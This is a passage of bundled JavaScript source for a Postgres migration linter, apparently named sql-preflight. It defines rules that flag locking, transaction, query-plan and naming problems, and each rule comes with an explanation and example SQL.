            const existing = (node.relations ?? []).map((r) => r.RangeVar).filter((r) => r !== void 0 && !context.isNewTable(r));
            if (existing.length === 0) return;
            const names3 = existing.map(relationName2).join(", ");
            const them = existing.length > 1 ? "them" : "it";
            const cascade = node.behavior === "DROP_CASCADE" ? ` CASCADE also empties every table that has a foreign key to ${names3}, and in turn the tables referencing those, although the statement does not name them.` : "";
            context.report(statement, {
              message: `TRUNCATE deletes every row of ${names3} for good, and its ${lockName("AccessExclusiveLock")} lock ${describeBlocking("AccessExclusiveLock")} on ${them} until the transaction ends.${cascade}`
            });
          }
        };
      }
    });
  }
});

// src/rules/ban-uncommitted-transaction.ts
var ban_uncommitted_transaction_default;
var init_ban_uncommitted_transaction = __esm({
  "src/rules/ban-uncommitted-transaction.ts"() {
    "use strict";
    init_rule();
    init_statements();
    ban_uncommitted_transaction_default = defineRule({
      meta: {
        id: "ban-uncommitted-transaction",
        category: "transactions",
        severity: "error",
        summary: "Commit or roll back every transaction the file opens.",
        why: "A transaction block opened with BEGIN lasts until COMMIT or ROLLBACK, not until the end of the file. If the file never ends it, the runner's connection stays inside the open transaction, holding every lock the migration took, so the tables it altered stay blocked for other sessions; when the connection finally closes, Postgres rolls the whole transaction back, and the migration may have been recorded as applied although none of its changes were kept.",
        safeAlternative: "End the file with COMMIT, or remove the BEGIN and let the migration runner manage the transaction.",
        examples: {
          bad: ["BEGIN;\nALTER TABLE orders ADD COLUMN note text;"],
          good: ["BEGIN;\nALTER TABLE orders ADD COLUMN note text;\nCOMMIT;"]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-begin.html",
          "https://www.postgresql.org/docs/current/sql-commit.html",
          "https://www.postgresql.org/docs/current/protocol-flow.html#PROTOCOL-FLOW-MULTI-STATEMENT"
        ]
      },
      create(context) {
        let open;
        return {
          TransactionStmt(node, statement) {
            const kind = node.kind ?? "";
            if (TRANSACTION_BEGIN.has(kind)) open ??= statement;
            else if (TRANSACTION_END.has(kind) && open) open = node.chain ? statement : void 0;
          },
          endOfFile() {
            if (!open || context.file.transaction === "transaction") return;
            const opened = open.node.kind === "TRANS_STMT_COMMIT" || open.node.kind === "TRANS_STMT_ROLLBACK" ? "The transaction that AND CHAIN starts here" : "The transaction opened here";
            context.report(open, {
              message: `${opened} is never committed or rolled back in this file: the connection stays in it, holding every lock taken, and Postgres rolls the changes back when the session ends.`
            });
          }
        };
      }
    });
  }
});

// src/rules/ban-vacuum-full-cluster.ts
var REPACK_SINCE, ban_vacuum_full_cluster_default;
var init_ban_vacuum_full_cluster = __esm({
  "src/rules/ban-vacuum-full-cluster.ts"() {
    "use strict";
    init_ast();
    init_rule();
    init_statement_locks();
    REPACK_SINCE = 19;
    ban_vacuum_full_cluster_default = defineRule({
      meta: {
        id: "ban-vacuum-full-cluster",
        category: "locking",
        severity: "error",
        verifiedBy: "rewrite",
        summary: "Do not run VACUUM FULL or CLUSTER in a migration.",
        why: "VACUUM FULL and CLUSTER write a new copy of the table and of all its indexes while holding an ACCESS EXCLUSIVE lock, so every read and write of the table waits for the whole rewrite, which on a large table takes minutes to hours. Without a table name they rewrite every table they can (CLUSTER: every table clustered before).",
        safeAlternative: "Reclaim space online with an extension that rewrites the table while it stays in use, such as pg_repack or pg_squeeze, run outside the migrations; from PostgreSQL 19, REPACK (CONCURRENTLY) does the same in core and holds ACCESS EXCLUSIVE only to swap the files. Plain VACUUM does not block reads or writes.",
        postgres: {
          note: "From PostgreSQL 19, REPACK (CONCURRENTLY) rewrites a table without blocking reads and writes except for the final swap."
        },
        examples: {
          bad: ["VACUUM FULL orders;", "CLUSTER orders USING orders_created_at_idx;"],
          good: ["VACUUM (ANALYZE) orders;", "CREATE TABLE invoices (id bigint PRIMARY KEY);\nVACUUM FULL invoices;"]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-vacuum.html",
          "https://www.postgresql.org/docs/current/sql-cluster.html",
          "https://www.postgresql.org/docs/current/explicit-locking.html#LOCKING-TABLES",
          "https://www.postgresql.org/docs/19/sql-repack.html"
        ]
      },
      create(context) {
        const check = (statement, command, named) => {
          const existing = named.filter((r) => !context.isNewTable(r)).map(relationName2);
          if (named.length > 0 && existing.length === 0) return;
          const target = existing.length > 0 ? existing.join(", ") : "every table it applies to";
          const repack = context.postgresVersion >= REPACK_SINCE;
          context.report(statement, {
            message: `${command} rewrites ${target} under an ACCESS EXCLUSIVE lock: all reads and writes wait until the rewrite finishes.`,
            help: repack ? `Rewrite ${existing.length > 0 ? "each table" : "the tables that need it"} with REPACK (CONCURRENTLY) table_name, one table per command and outside a transaction block (the table needs a primary key or an index-based replica identity), or with pg_repack / pg_squeeze.` : "Reclaim the space online with pg_repack or pg_squeeze, outside the migration; plain VACUUM does not block reads or writes."
          });
        };
        return {
          VacuumStmt(node, statement) {
            if (!node.is_vacuumcmd || !booleanOption(node.options, "full")) return;
            check(statement, "VACUUM FULL", (node.rels ?? []).map((r) => r.VacuumRelation?.relation));
          },
          ClusterStmt(node, statement) {
            check(statement, "CLUSTER", node.relation ? [node.relation] : []);
          }
        };
      }
    });
  }
});

// src/rules/base-migration-failed.ts
var base_migration_failed_default;
var init_base_migration_failed = __esm({
  "src/rules/base-migration-failed.ts"() {
    "use strict";
    init_rule();
    base_migration_failed_default = defineRule({
      meta: {
        id: "base-migration-failed",
        category: "trace",
        severity: "warning",
        summary: "An existing migration failed while the schema before the change was being rebuilt.",
        why: "sql-preflight rebuilds the schema from the existing migrations before it runs the change. A migration that fails there usually depends on something created outside the migrations (a role, an extension, a schema), so the rebuilt schema lacks whatever it would have created and later checks may be incomplete.",
        safeAlternative: "Create what the migrations expect in `setup` SQL files listed in .sql-preflight.yml (roles, extensions, schemas), or fix the migration if it is really broken.",
        examples: { bad: [], good: [] }
      },
      create: () => ({})
    });
  }
});

// src/plan/walk.ts
function walkPlan(root) {
  const visits = [];
  const visit = (node, parent, processes) => {
    const entry = { node, parent, children: [], depth: parent ? parent.depth + 1 : 0, processes };
    visits.push(entry);
    const gather = node["Node Type"] === "Gather" || node["Node Type"] === "Gather Merge";
    const below2 = gather ? (node["Workers Launched"] ?? node["Workers Planned"] ?? 0) + (node["Single Copy"] ? 0 : 1) : processes;
    for (const child of node.Plans ?? []) entry.children.push(visit(child, entry, Math.max(1, below2)));
    return entry;
  };
  visit(root, void 0, 1);
  return visits;
}
function isAnalyzed(explain) {
  return explain.Plan["Actual Loops"] !== void 0;
}
function actualRows(node) {
  const loops = node["Actual Loops"];
  return loops === void 0 ? void 0 : (node["Actual Rows"] ?? 0) * loops;
}
function inclusiveTime(visit) {
  const { node } = visit;
  if (node["Actual Total Time"] === void 0) return void 0;
  return node["Actual Total Time"] * (node["Actual Loops"] ?? 0) / visit.processes;
}
function exclusiveTime(visit) {
  const total = inclusiveTime(visit);
  if (total === void 0) return void 0;
  const children = visit.children.reduce((sum, child) => sum + (inclusiveTime(child) ?? 0), 0);
  return Math.max(0, total - children);
}
function workShare(explain, visit, exclusive) {
  const execution = explain["Execution Time"];
  const time2 = exclusive ? exclusiveTime(visit) : inclusiveTime(visit);
  if (time2 !== void 0 && execution) return time2 / execution;
  const total = explain.Plan["Total Cost"];
  if (!total) return 1;
  const own = visit.node["Total Cost"] ?? 0;
  const children = exclusive ? visit.children.reduce((sum, child) => sum + (child.node["Total Cost"] ?? 0), 0) : 0;
  return Math.max(0, own - children) / total;
}
function relationsBelow(visit) {
  const names3 = /* @__PURE__ */ new Set();
  const collect = (v) => {
    const name = relationName(v.node);
    if (name) names3.add(name);
    v.children.forEach(collect);
  };
  collect(visit);
  return [...names3];
}
var init_walk = __esm({
  "src/plan/walk.ts"() {
    "use strict";
    init_text2();
  }
});

// src/rules/cartesian-product.ts
function parameterized(inner, outer) {
  const aliases = /* @__PURE__ */ new Set();
  const collect = (v) => {
    if (v.node.Alias) aliases.add(v.node.Alias);
    v.children.forEach(collect);
  };
  collect(outer);
  const conditions = [];
  const gather = (v) => {
    for (const key of CONDITION_KEYS) if (typeof v.node[key] === "string") conditions.push(v.node[key]);
    v.children.forEach(gather);
  };
  gather(inner);
  return conditions.some((condition) => [...aliases].some((alias) => referencesAlias(condition, alias)));
}
function referencesAlias(condition, alias) {
  const escaped = quote2(alias).replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
  return new RegExp(`(^|[^\\w$."])${escaped}\\.`).test(condition);
}
function source(side) {
  let visit = side;
  while (visit.node["Node Type"] === "Materialize" && visit.children[0]) visit = visit.children[0];
  return visit;
}
var defaultOptions, PRODUCT_SHARE, CONDITION_KEYS, cartesian_product_default;
var init_cartesian_product = __esm({
  "src/rules/cartesian-product.ts"() {
    "use strict";
    init_rule();
    init_text2();
    init_walk();
    defaultOptions = { minRows: 1e3 };
    PRODUCT_SHARE = 0.9;
    CONDITION_KEYS = ["Index Cond", "Recheck Cond", "Filter", "Join Filter", "Hash Cond", "Merge Cond", "TID Cond", "Cache Key", "One-Time Filter"];
    cartesian_product_default = definePlanRule({
      meta: {
        id: "cartesian-product",
        category: "plan",
        severity: "warning",
        needsAnalyze: false,
        summary: "A join pairs every row of one side with every row of the other: no join condition links them.",
        why: "Without a condition between two tables, Postgres returns every combination of their rows: the result has outer \xD7 inner rows, so it grows with the product of both tables. It is nearly always a forgotten ON or WHERE clause (often after a refactoring of a comma-separated FROM list), and it shows up as a query that was fast on a small database and becomes impossible on a real one.",
        safeAlternative: "Add the missing join condition (`JOIN ... ON a.x = b.y`, or the WHERE clause that links the tables). If the product is intended, write it as an explicit CROSS JOIN and keep both sides small (and turn this rule off for the query with an ignore comment).",
        defaultOptions,
        optionDocs: {
          minRows: "Only flag products of at least this many rows (actual with ANALYZE, estimated without)."
        },
        examples: {
          existing: "CREATE TABLE customers (\n  id bigint PRIMARY KEY,\n  country text NOT NULL\n);\nINSERT INTO customers SELECT g, (ARRAY['DE', 'FR', 'JP', 'US'])[1 + g % 4] FROM generate_series(1, 2000) AS g;\nCREATE TABLE orders (\n  id bigint PRIMARY KEY,\n  customer_id bigint NOT NULL REFERENCES customers,\n  status text NOT NULL\n);\nINSERT INTO orders\nSELECT g, 1 + g % 2000, CASE WHEN g % 1000 = 0 THEN 'late' ELSE 'delivered' END\nFROM generate_series(1, 100000) AS g;\nVACUUM ANALYZE customers;\nVACUUM ANALYZE orders;",
          bad: ["SELECT c.id, o.id\nFROM customers c, orders o\nWHERE c.country = 'JP' AND o.status = 'late';"],
          good: ["SELECT c.id, o.id\nFROM customers c\nJOIN orders o ON o.customer_id = c.id\nWHERE c.country = 'JP' AND o.status = 'late';"]
        },
        references: ["https://www.postgresql.org/docs/current/queries-table-expressions.html#QUERIES-JOIN"]
      },
      check(plan, context) {
        const { minRows } = context.options;
        const analyzed2 = isAnalyzed(plan);
        for (const visit of context.nodes) {
          const { node } = visit;
          if (node["Node Type"] !== "Nested Loop" || node["Join Filter"] || node["Join Type"] === "Semi" || node["Join Type"] === "Anti") continue;
          const outer = visit.children.find((c) => c.node["Parent Relationship"] === "Outer");
          const inner = visit.children.find((c) => c.node["Parent Relationship"] === "Inner");
          if (!outer || !inner || parameterized(inner, outer)) continue;
          const outerRows = analyzed2 ? (outer.node["Actual Rows"] ?? 0) * (outer.node["Actual Loops"] ?? 0) : outer.node["Plan Rows"] ?? 0;
          const innerRows = analyzed2 ? inner.node["Actual Rows"] ?? 0 : inner.node["Plan Rows"] ?? 0;
          const output = analyzed2 ? (node["Actual Rows"] ?? 0) * (node["Actual Loops"] ?? 0) : node["Plan Rows"] ?? 0;
          if (outerRows <= 1 || innerRows <= 1 || output < minRows || output < PRODUCT_SHARE * outerRows * innerRows) continue;
          const sides = [outer, inner].map((side) => nodeLabel(source(side).node));
          context.report({
            node,
            quote: [outer.node, inner.node],
            message: `${nodeLabel(node)} pairs each of ${analyzed2 ? "" : "an estimated "}${formatCount(outerRows)} rows from ${sides[0]} with all ${formatCount(innerRows)} rows from ${sides[1]} (${formatCount(output)} rows) without a join condition between them.`,
            evidence: { outerRows: Math.round(outerRows), innerRows: Math.round(innerRows), rows: Math.round(output), estimated: !analyzed2 }
          });
        }
      }
    });
  }
});

// src/rules/changing-column-type.ts
function atLeast(from, to) {
  return to.length === 0 || from.length > 0 && to[0] >= from[0];
}
function precision(from, to) {
  return (to[0] ?? 6) >= (from[0] ?? 6);
}
function changesWithoutRewrite(from, to) {
  if (from.array !== to.array) return false;
  const sameTypmods = from.typmods.length === to.typmods.length && from.typmods.every((m, i) => m === to.typmods[i]);
  if (from.name === to.name && sameTypmods) return true;
  if (from.array) return false;
  if (from.name === to.name) return WIDENING[from.name]?.(from.typmods, to.typmods) ?? false;
  return RELABEL[`${from.name}>${to.name}`]?.(from, to) ?? false;
}
function typeText(type) {
  const typmods = type.name === "interval" ? type.typmods.slice(1) : type.typmods;
  return `${type.name}${typmods.length > 0 ? `(${typmods.join(",")})` : ""}${type.array ? "[]" : ""}`;
}
var REWRITE, RELABEL, FULL_RANGE, WIDENING, changing_column_type_default;
var init_changing_column_type = __esm({
  "src/rules/changing-column-type.ts"() {
    "use strict";
    init_ast();
    init_catalog();
    init_rule();
    REWRITE = "rewrites the whole table and rebuilds its indexes under an ACCESS EXCLUSIVE lock, blocking reads and writes until it is done";
    RELABEL = {
      "varchar>text": () => true,
      "text>varchar": (_, to) => to.typmods.length === 0,
      "cidr>inet": () => true
    };
    FULL_RANGE = 32767;
    WIDENING = {
      varchar: atLeast,
      varbit: atLeast,
      numeric: (from, to) => to.length === 0 || from.length > 0 && (from[1] ?? 0) === (to[1] ?? 0) && to[0] >= from[0],
      timestamp: precision,
      timestamptz: precision,
      time: precision,
      timetz: precision,
      // interval typmods are [fields, precision]; the fields must stay the same.
      interval: (from, to) => to.length === 0 || (from[0] ?? FULL_RANGE) === to[0] && (to[1] ?? 6) >= (from[1] ?? 6)
    };
    changing_column_type_default = defineRule({
      meta: {
        id: "changing-column-type",
        category: "locking",
        severity: "error",
        verifiedBy: "rewrite",
        summary: "Do not change the type of a column of an existing table when it rewrites the table.",
        why: "ALTER COLUMN ... TYPE takes an ACCESS EXCLUSIVE lock and, unless the old type converts to the new one without touching the data, rewrites every row and rebuilds every index of the table: no reads or writes go through until it is done. Conversions without a rewrite are the binary-compatible ones (varchar to text, cidr to inet) and widenings of a length or precision limit (varchar(n) to a larger or no limit, numeric precision up with the same scale, more fractional-second digits for timestamp, time and interval). A USING clause always rewrites.",
        safeAlternative: "Prefer a change Postgres does without a rewrite (e.g. varchar(n) to text or to a larger varchar). Otherwise add a new column of the new type, keep it in sync with a trigger, backfill the existing rows in small batches, switch the application to it and drop the old column.",
        examples: {
          bad: ["ALTER TABLE orders ALTER COLUMN quantity TYPE bigint;"],
          good: ["CREATE TABLE invoices (id int, note varchar(20));\nALTER TABLE invoices ALTER COLUMN id TYPE bigint;"]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-altertable.html#SQL-ALTERTABLE-NOTES",
          "https://www.postgresql.org/docs/current/explicit-locking.html#LOCKING-TABLES"
        ]
      },
      create(context) {
        return {
          AlterTableStmt(node, statement) {
            if (node.objtype !== "OBJECT_TABLE" || context.isNewTable(node.relation)) return;
            const table = context.catalog.table(node.relation);
            const name = relationName2(node.relation);
            for (const { cmd, range: range2, column: def } of alterTableCommands(statement, node)) {
              if (cmd.subtype !== "AT_AlterColumnType" || !def || !cmd.name) continue;
              const to = columnType(def.typeName);
              const from = table?.columns.get(cmd.name)?.type;
              const changing = `Changing the type of ${cmd.name} on ${name}`;
              let message;
              if (def.raw_default) {
                message = `${changing} to ${typeText(to)} with a USING clause ${REWRITE}.`;
              } else if (!from) {
                message = `${changing} to ${typeText(to)} ${REWRITE}, unless the old type converts without a rewrite: the old type is unknown here (the column is not created in the migrations), and \`sql-preflight check\` verifies it on a real database.`;
              } else if (!changesWithoutRewrite(from, to)) {
                message = `${changing} from ${typeText(from)} to ${typeText(to)} ${REWRITE}.`;
              } else if (def.collClause) {
                message = `${changing} with a COLLATE clause rebuilds the indexes on the column under an ACCESS EXCLUSIVE lock if the collation changes, blocking reads and writes until they are rebuilt.`;
              } else {
                continue;
              }
              context.report(statement, { range: range2, message });
            }
          }
        };
      }
    });
  }
});

// src/rules/constraint-missing-not-valid.ts
function checksRows(constraint) {
  return (constraint.contype === "CONSTR_CHECK" || constraint.contype === "CONSTR_FOREIGN") && !constraint.skip_validation;
}
function describe(constraint) {
  const kind = constraint.contype === "CONSTR_CHECK" ? "CHECK constraint" : "foreign key";
  return constraint.conname ? `${kind} ${constraint.conname}` : `a ${kind}`;
}
function scanMessage(constraint, table, adding) {
  if (constraint.contype === "CONSTR_CHECK") {
    return `${adding} checks every existing row under an ACCESS EXCLUSIVE lock, which ${describeBlocking("AccessExclusiveLock")} until the scan is done.`;
  }
  const referenced = relationName2(constraint.pktable);
  const locks = referenced === table ? `a SHARE ROW EXCLUSIVE lock on ${table}` : `SHARE ROW EXCLUSIVE locks on ${table} and ${referenced}`;
  return `${adding} checks every existing row against ${referenced} under ${locks}, which ${describeBlocking("ShareRowExclusiveLock")} until the scan is done.`;
}
var constraint_missing_not_valid_default;
var init_constraint_missing_not_valid = __esm({
  "src/rules/constraint-missing-not-valid.ts"() {
    "use strict";
    init_ast();
    init_locks();
    init_rule();
    constraint_missing_not_valid_default = defineRule({
      meta: {
        id: "constraint-missing-not-valid",
        category: "locking",
        severity: "error",
        verifiedBy: "validation",
        summary: "Add CHECK and FOREIGN KEY constraints to existing tables with NOT VALID.",
        why: "Adding a CHECK constraint scans the whole table to check every row while holding an ACCESS EXCLUSIVE lock, which blocks reads and writes. Adding a FOREIGN KEY scans the table while holding SHARE ROW EXCLUSIVE locks on both the table and the referenced table, which block writes to both. With NOT VALID the existing rows are not checked, so the lock is held only briefly; VALIDATE CONSTRAINT then checks them under a SHARE UPDATE EXCLUSIVE lock, which lets reads and writes through. A foreign key added to a table created in the same change is not flagged: the table is empty, so the scan is instant and the lock on the referenced table is short.",
        safeAlternative: "Add the constraint with NOT VALID (new and updated rows are checked at once), then run ALTER TABLE ... VALIDATE CONSTRAINT in a separate transaction.",
        examples: {
          bad: [
            "ALTER TABLE orders ADD CONSTRAINT orders_quantity_positive CHECK (quantity > 0);",
            "ALTER TABLE orders ADD CONSTRAINT orders_customer_fk FOREIGN KEY (customer_id) REFERENCES customers (id);"
          ],
          good: [
            "ALTER TABLE orders ADD CONSTRAINT orders_customer_fk FOREIGN KEY (customer_id) REFERENCES customers (id) NOT VALID;",
            "CREATE TABLE invoices (id bigint PRIMARY KEY, customer_id bigint);\nALTER TABLE invoices ADD CONSTRAINT invoices_customer_fk FOREIGN KEY (customer_id) REFERENCES customers (id);"
          ]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-altertable.html#SQL-ALTERTABLE-DESC-ADD-TABLE-CONSTRAINT",
          "https://www.postgresql.org/docs/current/sql-altertable.html#SQL-ALTERTABLE-NOTES",
          "https://www.postgresql.org/docs/current/explicit-locking.html#LOCKING-TABLES"
        ]
      },
      create(context) {
        return {
          AlterTableStmt(node, statement) {
            if (node.objtype !== "OBJECT_TABLE" || context.isNewTable(node.relation)) return;
            const table = relationName2(node.relation);
            for (const { cmd, range: range2, column, constraint } of alterTableCommands(statement, node)) {
              if (cmd.subtype === "AT_AddConstraint") {
                if (!constraint || !checksRows(constraint)) continue;
                const validate3 = constraint.conname ? `\`ALTER TABLE ${table} VALIDATE CONSTRAINT ${constraint.conname};\`` : "VALIDATE CONSTRAINT (name the constraint so that you can)";
                context.report(statement, {
                  range: range2,
                  message: scanMessage(constraint, table, `Adding ${describe(constraint)} to ${table}`),
                  help: `Add it with NOT VALID, which checks only new and updated rows, then run ${validate3} in a separate transaction: it checks the existing rows without blocking reads or writes.`,
                  fix: range2 && { description: "Add NOT VALID", edits: [{ range: { start: range2.end, end: range2.end }, text: " NOT VALID" }] }
                });
              } else if (cmd.subtype === "AT_AddColumn") {
                for (const columnConstraint of columnConstraints(column)) {
                  if (!checksRows(columnConstraint)) continue;
                  context.report(statement, {
                    range: range2,
                    message: scanMessage(columnConstraint, table, `Adding column ${column?.colname} with ${describe(columnConstraint)} to ${table}`),
                    help: `Add the column without the constraint, then add it as a table constraint with NOT VALID (\`ALTER TABLE ${table} ADD CONSTRAINT ... NOT VALID;\`) and run VALIDATE CONSTRAINT in a separate transaction: a column constraint cannot be NOT VALID.`
                  });
                }
              }
            }
          }
        };
      }
    });
  }
});

// src/rules/down-migration-mismatch.ts
var down_migration_mismatch_default;
var init_down_migration_mismatch = __esm({
  "src/rules/down-migration-mismatch.ts"() {
    "use strict";
    init_rule();
    down_migration_mismatch_default = defineRule({
      meta: {
        id: "down-migration-mismatch",
        category: "trace",
        severity: "warning",
        summary: "The down migration does not restore the schema the up migration started from.",
        why: "sql-preflight applied the migration, then its down part, and compared the schema with the one before: they differ (or the down part failed, or the up part could not be applied again). A rollback in production would leave the schema in a state no migration describes.",
        safeAlternative: "Make the down part undo exactly what the up part does, in reverse order.",
        examples: { bad: [], good: [] }
      },
      create: () => ({})
    });
  }
});

// src/rules/identifier-too-long.ts
function identifierValue(text2) {
  const quoted = QUOTED.exec(text2);
  if (quoted) return quoted[1].replaceAll('""', '"');
  return UNQUOTED.test(text2) ? text2.replace(/[A-Z]/g, (c) => c.toLowerCase()) : void 0;
}
function truncated(bytes) {
  let end2 = MAX_BYTES;
  while (end2 > 0 && (bytes[end2] & 192) === 128) end2--;
  return bytes.toString("utf8", 0, end2);
}
function declaredNames(statement) {
  const node = statement.node;
  const names3 = /* @__PURE__ */ new Map();
  const add = (name, what) => {
    if (typeof name === "string" && !names3.has(name)) names3.set(name, what);
  };
  const addColumn = (def) => {
    add(def?.colname, "column name");
    for (const constraint of columnConstraints(def)) add(constraint.conname, "constraint name");
  };
  switch (statement.type) {
    case "CreateStmt":
      add(node.relation?.relname, "table name");
      for (const element of node.tableElts ?? []) {
        addColumn(element.ColumnDef);
        add(element.Constraint?.conname, "constraint name");
      }
      break;
    case "CreateTableAsStmt":
      add(node.into?.rel?.relname, node.objtype === "OBJECT_MATVIEW" ? "materialized view name" : "table name");
      for (const column of node.into?.colNames ?? []) add(constantText(column), "column name");
      break;
    case "ViewStmt":
      add(node.view?.relname, "view name");
      for (const column of node.aliases ?? []) add(constantText(column), "column name");
      break;
    case "IndexStmt":
      add(node.idxname, "index name");
      break;
    case "CreateSeqStmt":
      add(node.sequence?.relname, "sequence name");
      break;
    case "AlterTableStmt":
      for (const item of node.cmds ?? []) {
        const cmd = item.AlterTableCmd;
        if (cmd?.subtype === "AT_AddColumn") addColumn(cmd.def?.ColumnDef);
        if (cmd?.subtype === "AT_AddConstraint") add(cmd.def?.Constraint?.conname, "constraint name");
      }
      break;
    case "RenameStmt":
      add(node.newname, "new name");
      break;
  }
  return names3;
}
var MAX_BYTES, UNQUOTED, QUOTED, identifier_too_long_default;
var init_identifier_too_long = __esm({
  "src/rules/identifier-too-long.ts"() {
    "use strict";
    init_ast();
    init_rule();
    init_statements();
    MAX_BYTES = 63;
    UNQUOTED = /^[A-Za-z_\u0080-\u{10FFFF}][\w$\u0080-\u{10FFFF}]*$/u;
    QUOTED = /^"((?:[^"]|"")*)"$/;
    identifier_too_long_default = defineRule({
      meta: {
        id: "identifier-too-long",
        category: "types",
        severity: "warning",
        summary: "Keep table, column, index and constraint names within 63 bytes.",
        why: "Postgres keeps only the first NAMEDATALEN - 1 bytes of an identifier, 63 in a default build, counted in bytes of the encoding, not characters: a name with accented letters or other non-ASCII characters reaches the limit sooner. A longer name is cut short with only a NOTICE, so the object is created under a name nobody wrote. Tools and code that pass the full name as a string (to_regclass, information_schema, ORM schema checks) do not find it, and two names that share their first 63 bytes collide, so the second one fails as a duplicate.",
        safeAlternative: "Shorten the name to 63 bytes or fewer, for example by abbreviating words, and use that name everywhere.",
        examples: {
          bad: ["CREATE INDEX customer_subscription_events_created_at_and_customer_id_and_status_idx ON events (created_at, customer_id, status);"],
          good: ["CREATE INDEX subscription_events_created_customer_status_idx ON events (created_at, customer_id, status);"]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-syntax-lexical.html#SQL-SYNTAX-IDENTIFIERS",
          "https://www.postgresql.org/docs/current/datatype-character.html"
        ]
      },
      create(context) {
        return {
          statement(statement) {
            const declared = declaredNames(statement);
            if (declared.size === 0) return;
            const reported = /* @__PURE__ */ new Set();
            for (const token of statement.tokens) {
              const value = identifierValue(token.text);
              if (value === void 0) continue;
              const bytes = Buffer.from(value, "utf8");
              if (bytes.length <= MAX_BYTES) continue;
              const kept = truncated(bytes);
              const what = declared.get(kept);
              if (!what || reported.has(kept)) continue;
              reported.add(kept);
              context.report(statement, {
                range: token.range,
                message: `The ${what} "${value}" is ${bytes.length} bytes long: Postgres keeps only the first ${MAX_BYTES} ("${kept}") with no more than a NOTICE, so anything that uses the full name will not find it.`
              });
            }
          }
        };
      }
    });
  }
});

// src/rules/index-only-heap-fetches.ts
var defaultOptions2, index_only_heap_fetches_default;
var init_index_only_heap_fetches = __esm({
  "src/rules/index-only-heap-fetches.ts"() {
    "use strict";
    init_rule();
    init_text2();
    init_walk();
    defaultOptions2 = { minShare: 0.25, minFetches: 100, minRuntimeShare: 0.1 };
    index_only_heap_fetches_default = definePlanRule({
      meta: {
        id: "index-only-heap-fetches",
        category: "plan",
        severity: "notice",
        needsAnalyze: true,
        summary: "An index-only scan fetched many rows from the table because the visibility map is out of date.",
        why: "An Index Only Scan answers from the index alone only for pages the visibility map marks all-visible. Rows on other pages (changed since the last VACUUM) are checked in the table, one random page read each, so a scan planned as index-only does the work of an ordinary index scan, or more. The planner also costs it as cheap from the all-visible share it saw at the last VACUUM or ANALYZE.",
        safeAlternative: "VACUUM the table so its pages are marked all-visible again, and make autovacuum keep up with it: lower autovacuum_vacuum_scale_factor (and autovacuum_vacuum_insert_scale_factor for tables that are mostly inserted into) for that table. On a CI database, VACUUM after seeding.",
        defaultOptions: defaultOptions2,
        optionDocs: {
          minShare: "Flag when the heap fetches are at least this share of the rows the index returned.",
          minFetches: "Only flag at least this many heap fetches.",
          minRuntimeShare: "Only flag a scan that takes at least this share of the execution time."
        },
        examples: {
          existing: "CREATE TABLE events (\n  id bigint PRIMARY KEY,\n  kind int NOT NULL,\n  payload text NOT NULL\n);\nINSERT INTO events SELECT g, g % 50, 'event ' || g FROM generate_series(1, 100000) AS g;\nCREATE INDEX events_kind_id_idx ON events (kind, id);\nVACUUM ANALYZE events;\n-- Changes since the last VACUUM: a third of the rows, on every page.\nUPDATE events SET payload = upper(payload) WHERE id % 3 = 0;",
          bad: ["SELECT id FROM events WHERE kind = 7;"],
          good: ["VACUUM events;\nSELECT id FROM events WHERE kind = 7;"]
        },
        references: [
          "https://www.postgresql.org/docs/current/indexes-index-only-scans.html",
          "https://www.postgresql.org/docs/current/routine-vacuuming.html#VACUUM-FOR-VISIBILITY-MAP"
        ]
      },
      check(plan, context) {
        const { minShare, minFetches, minRuntimeShare } = context.options;
        for (const visit of context.nodes) {
          const { node } = visit;
          const fetches = node["Heap Fetches"];
          const loops = node["Actual Loops"] ?? 0;
          if (node["Node Type"] !== "Index Only Scan" || fetches === void 0 || fetches < minFetches || loops === 0) continue;
          const rows2 = (actualRows(node) ?? 0) + ((node["Rows Removed by Filter"] ?? 0) + (node["Rows Removed by Index Recheck"] ?? 0)) * loops;
          if (fetches < minShare * Math.max(rows2, 1) || workShare(plan, visit, true) < minRuntimeShare) continue;
          const table = relationName(node) ?? "the table";
          context.report({
            node,
            message: `${nodeLabel(node)} fetched ${formatCount(fetches)} rows from ${table} to return ${formatCount(rows2)}: their pages are not marked all-visible, so the index-only scan read the table anyway.`,
            help: `VACUUM ${table} so its pages are marked all-visible again, and tune autovacuum for it (autovacuum_vacuum_scale_factor, autovacuum_vacuum_insert_scale_factor) so it stays so.`,
            evidence: { heapFetches: fetches, rows: Math.round(rows2) }
          });
        }
      }
    });
  }
});

// src/rules/index-suggestion.ts
var index_suggestion_default;
var init_index_suggestion = __esm({
  "src/rules/index-suggestion.ts"() {
    "use strict";
    init_rule();
    index_suggestion_default = defineRule({
      meta: {
        id: "index-suggestion",
        category: "plan",
        severity: "notice",
        summary: "An index would at least halve the estimated cost of a query, as measured on the seeded database.",
        why: "The query reads a table through a sequential scan, a join or a sort that an index would serve. sql-preflight created the index on the throwaway database with seeded data, planned the query again, and the estimated cost fell by half or more; a second column is suggested only when it halves the cost again. Without the index the query reads every row of the table on each call, and its cost grows with the table.",
        safeAlternative: "Create the suggested index in a migration with CREATE INDEX CONCURRENTLY (outside a transaction block), which does not block writes while it builds. Weigh its size and the cost it adds to every INSERT and UPDATE of the table against how often the query runs; the seeded data is not production's, so check the plan there too.",
        examples: {
          existing: "CREATE TABLE orders (\n  id bigint PRIMARY KEY,\n  customer_id bigint NOT NULL,\n  total numeric(12, 2) NOT NULL\n);\nINSERT INTO orders SELECT g, 1 + g % 2000, g % 500 + 0.99 FROM generate_series(1, 100000) AS g;\nCREATE TABLE countries (code text PRIMARY KEY, name text NOT NULL);\nINSERT INTO countries VALUES ('DE', 'Germany'), ('FR', 'France'), ('JP', 'Japan');\nVACUUM ANALYZE orders;\nVACUUM ANALYZE countries;",
          bad: ["SELECT id, total FROM orders WHERE customer_id = 42;"],
          good: ["SELECT id, total FROM orders WHERE id = 42;", "SELECT code FROM countries WHERE name = 'Japan';"]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-createindex.html#SQL-CREATEINDEX-CONCURRENTLY",
          "https://www.postgresql.org/docs/current/indexes-multicolumn.html",
          "https://www.postgresql.org/docs/current/using-explain.html"
        ]
      },
      create: () => ({})
    });
  }
});

// src/rules/lossy-bitmap-scan.ts
var defaultOptions3, lossy_bitmap_scan_default;
var init_lossy_bitmap_scan = __esm({
